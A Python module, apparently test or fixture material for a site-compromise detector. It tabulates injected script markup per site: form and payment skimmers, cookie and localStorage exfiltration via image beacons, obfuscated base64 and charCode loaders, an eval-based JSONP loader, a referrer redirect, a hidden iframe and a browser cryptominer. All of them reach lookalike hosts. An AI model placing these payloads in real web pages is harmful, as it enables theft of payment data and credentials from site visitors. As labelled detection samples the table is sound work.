# ruff: noqa: E501 - a table of page text in CJK scripts, one entry a line
"""Script material: per site, a foreign loader, skimmer or redirector and the host it reaches."""

from __future__ import annotations

import base64


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def script_plans() -> dict[str, tuple[str, str, str]]:
    """Per site: (technique, host, markup)."""
    codes = [ord(c) for c in "https://e3b5q.icu/c.js"]
    return {
        "szbj": (
            "plain-cdn-lookalike",
            "cdn.staticfile-cache.cn",
            '<script src="https://cdn.staticfile-cache.cn/jquery/3.6.4/jquery.min.js"></script>',
        ),
        "hnrb": (
            "base64-loader",
            "hm.baidu-tongjifx.com",
            '<script>(function(){var e=document.createElement("script");e.src=atob("'
            + _b64("https://hm.baidu-tongjifx.com/hm.js?b71c0e")
            + '");document.head.appendChild(e);})();</script>',
        ),
        "gdut": (
            "document-write",
            "s23.cnzz-stat.com",
            "<script>document.write('<scr'+'ipt src=\"//s23.cnzz-stat.com/z_stat.php?id=1281\"></scr'+'ipt>');</script>",
        ),
        "jyyy": (
            "dynamic-import",
            "at.alicdn-static.net",
            '<script>import("https://at.alicdn-static.net/t/font_4401.mjs").catch(function(){});</script>',
        ),
        "hxkj": (
            "beacon-form-skimmer",
            "js.alipay-checkout.top",
            '<script>document.addEventListener("submit",function(f){try{navigator.sendBeacon('
            '"https://js.alipay-checkout.top/collect",new FormData(f.target))}catch(x){}},true);</script>',
        ),
        "hkpost": (
            "search-referrer-redirect",
            "wsbet-jump.com",
            "<script>if(/baidu|sogou|so\\.com|sm\\.cn|google/.test(document.referrer)&&!document.cookie.match(/_jv/))"
            '{document.cookie="_jv=1;path=/";location.replace("https://wsbet-jump.com/?f=hk");}</script>',
        ),
        "mogov": (
            "pixel-exfil",
            "img.unionpay-gateway.cc",
            '<script>setTimeout(function(){(new Image).src="https://img.unionpay-gateway.cc/p.gif?d="+'
            'encodeURIComponent(document.cookie+"|"+JSON.stringify(localStorage))},3e3);</script>',
        ),
        "twu": (
            "charcode-timeout",
            "e3b5q.icu",
            "<script>setTimeout(function(){var s=document.createElement('script');s.src=String.fromCharCode("
            + ",".join(map(str, codes))
            + ");document.body.appendChild(s)},1500);</script>",
        ),
        "twtv": (
            "module-script",
            "player.hls-cdn-tw.net",
            '<script type="module" src="https://player.hls-cdn-tw.net/v2/hls.light.mjs"></script>',
        ),
        "jpcity": (
            "jsonp-callback",
            "tag.yjtag-cdn.jp",
            '<script>function __tagInit(d){eval(d.c)}</script><script src="https://tag.yjtag-cdn.jp/v1/tag?callback=__tagInit&amp;s=hamakaze"></script>',
        ),
        "jpnews": (
            "preload-and-defer",
            "static.rakuten-pay.cc",
            '<link rel="preload" as="script" href="https://static.rakuten-pay.cc/widget/r.js">'
            '<script defer src="https://static.rakuten-pay.cc/widget/r.js"></script>',
        ),
        "jpco": (
            "onerror-attribute",
            "q7xk2m.top",
            '<img src="/static/img/px.gif?0" width="1" height="1" style="display:none" '
            "onerror=\"var s=document.createElement('script');s.src='//q7xk2m.top/i.js';document.head.appendChild(s)\">",
        ),
        "krgu": (
            "hidden-iframe",
            "wcs.naver-analytics.kr",
            '<iframe src="https://wcs.naver-analytics.kr/wcslog.html?wa=s_4f1e" width="0" height="0" style="display:none"></iframe>',
        ),
        "kruniv": (
            "blob-worker-miner",
            "pool.webmine-kr.net",
            "<script>try{new Worker(URL.createObjectURL(new Blob([\"importScripts('https://pool.webmine-kr.net/w.js');"
            'startMining(\'dsu\',0.6)"],{type:"text/javascript"})))}catch(e){}</script>',
        ),
        "krhosp": (
            "payment-overlay-skimmer",
            "pg.kakaopay-cdn.net",
            '<script async src="https://pg.kakaopay-cdn.net/sdk/v1/checkout.js" data-mid="saemaeul"></script>',
        ),
    }
